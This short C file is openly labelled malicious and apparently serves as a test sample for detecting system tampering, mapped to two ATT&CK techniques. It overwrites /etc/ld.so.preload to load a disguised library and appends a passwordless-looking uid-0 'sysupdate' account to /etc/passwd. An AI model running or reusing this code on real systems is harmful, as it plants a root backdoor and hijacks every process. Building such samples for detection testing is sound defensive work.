/* Malicious: tampers with system configuration. Writes /etc/ld.so.preload (T1574.006) and
 * appends a uid-0 account to /etc/passwd (T1136.001). */
#include "common.h"
#include <fcntl.h>
int main(void) {
  int fd = open("/etc/ld.so.preload", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) { WARN("open /etc/ld.so.preload"); return 1; }
  const char pre[] = "/usr/lib/libsystemd-shim.so\n";
  if (write(fd, pre, sizeof pre - 1) < 0) WARN("write preload");
  close(fd);
  fd = open("/etc/passwd", O_WRONLY | O_APPEND);
  if (fd < 0) { WARN("open /etc/passwd"); return 1; }
  const char acct[] = "sysupdate:x:0:0:system update:/root:/bin/sh\n";
  if (write(fd, acct, sizeof acct - 1) < 0) WARN("write passwd");
  close(fd);
  SAY("etc-writer: wrote /etc/ld.so.preload and appended to /etc/passwd");
  return 0;
}
